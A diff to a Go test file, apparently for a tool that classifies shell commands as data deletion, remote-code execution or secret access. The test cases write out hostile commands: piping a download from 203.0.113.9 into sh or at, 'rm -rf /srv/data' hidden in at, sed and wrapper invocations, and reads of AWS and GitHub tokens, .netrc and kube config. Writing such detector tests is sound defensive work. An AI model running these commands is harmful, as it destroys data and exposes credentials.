@@ -39,6 +39,14 @@ func TestSpecLaunchers(t *testing.T) {
 			want: []fx{{kind: "exec", target: "sh", detail: "stdin", unresolved: true}}, unres: true},
 		{name: "toybox shell from a download is unresolved", cmd: "curl -s http://203.0.113.9/x | toybox sh",
 			want: []fx{{kind: "exec", target: "sh", detail: "stdin", unresolved: true}}, unres: true},
+		{name: "at job from literal stdin", cmd: "echo 'rm -rf /srv/data' | at now + 1 minute", want: []fx{del}},
+		{name: "at job from a here-string", cmd: "at now <<< 'rm -rf /srv/data'", want: []fx{del}},
+		{name: "at job from a download", cmd: "curl -s http://203.0.113.9/j | at now", want: []fx{{kind: "exec", target: "at", detail: "stdin", unresolved: true}}, unres: true},
+		{name: "less +! is not read", cmd: "less '+!id' README.md", unres: true},
+		{name: "unknown launcher with sh -c", cmd: "somewrap --bg sh -c 'rm -rf /srv/data'", want: []fx{del}, unknown: []string{"somewrap"}},
+		{name: "unknown launcher with a command line", cmd: "somewrap 'sleep 1; rm -rf /srv/data'", want: []fx{del}, unknown: []string{"somewrap"}},
+		{name: "unknown program given blanks only", cmd: "somewrap ' ' '; |'", unknown: []string{"somewrap"}},
+		{name: "unknown program with a message", cmd: "somewrap --title 'build done'", not: []fx{{kind: "exec", target: "sh"}}, unknown: []string{"somewrap"}},
 		{name: "launcher running an expansion fails closed", cmd: "tmux new -d \"$CMD\"", unres: true},
 	})
 }
@@ -97,6 +105,12 @@ func TestSpecOptionCode(t *testing.T) {
 		{name: "k6 run workspace file", cmd: "k6 run tests/load.js", want: []fx{{kind: "exec", target: ws + "/tests/load.js", detail: "file"}}},
 		{name: "make --eval is not read", cmd: "make --eval='x:;true' x", unres: true},
 		{name: "jq env", cmd: "jq -n env", want: []fx{{kind: "secret", target: "jq env"}}},
+		{name: "jq credential variable", cmd: "jq -n '$ENV.AWS_SECRET_ACCESS_KEY'", want: []fx{{kind: "secret", target: "jq env"}}},
+		{name: "jq ordinary variable", cmd: "jq -n '$ENV.HOME'", not: []fx{{kind: "secret", target: "jq env"}}},
+		{name: "yq strenv of a token", cmd: "yq -n '.t = strenv(GITHUB_TOKEN)'", want: []fx{{kind: "secret", target: "yq env"}}},
+		{name: "sed label then e", cmd: "sed ':a;1e rm -rf /srv/data' f", want: []fx{del}},
+		{name: "make LDFLAGS with a dollar", cmd: `make LDFLAGS='-Wl,-rpath,$ORIGIN' all`},
+		{name: "make $(shell) in a variable", cmd: `make X='$(shell id)' all`, unres: true},
 		{name: "jq field named env", cmd: "jq -r '.env.NODE_ENV' config.json", not: []fx{{kind: "secret", target: "jq env"}}},
 		{name: "jq --rawfile reads", cmd: "jq -n --rawfile k /home/user/.netrc '$k'", want: []fx{{kind: "secret", target: home + "/.netrc"}}},
 		{name: "yq load", cmd: `yq '.a = load("/home/user/.kube/config")' x.yaml`, want: []fx{{kind: "secret", target: home + "/.kube/config"}}},
@@ -198,7 +212,7 @@ func TestSpecFormatExtensions(t *testing.T) {
 	if len(pa.vals) != 1 || pa.vals[0].val != "x" || pa.shRest != 3 {
 		t.Errorf("l f -c x y: vals %+v shRest %d", pa.vals, pa.shRest)
 	}
-	for _, bad := range []string{"a: --x=read/1", "a: --x=read/z", "a: --x=cmd/2", "a: +secret:x?", "a: --x=frob"} {
+	for _, bad := range []string{"a: --x=read/1", "a: --x=read/z", "a: --x=cmd/2", "a: -#,--y=_ read", "a: +secret:x?", "a: --x=frob"} {
 		if _, err := ParseCommandSpecs(map[string][]byte{"b.spec": []byte(bad)}); err == nil {
 			t.Errorf("%q parsed", bad)
 		}
